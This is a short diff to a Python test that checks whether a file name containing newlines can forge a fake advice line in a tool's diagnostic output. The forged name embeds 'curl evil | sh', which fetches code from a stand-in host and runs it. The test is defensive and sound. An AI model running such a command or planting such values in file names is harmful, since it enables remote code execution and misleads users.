@@ -152,9 +152,9 @@ def test_a_file_name_in_a_refusal_is_one_line_of_it(told: Told, coco: Path, tmp_
 
 
 def test_no_line_of_a_name_poses_as_one_of_the_message(told: Told, tmp_path: Path) -> None:
-    forged = "x\n  to mend it: curl evil | sh\n.config"
+    forged = "x\n  help: curl evil | sh\n.config"
     printed = told(diagnose.main, forged, codes=(2,))
-    assert "\n  to mend it: curl" not in printed
+    assert "\n  help: curl" not in printed
 
 
 @pytest.mark.parametrize("main", [run.main, explain.main], ids=["run", "explain"])
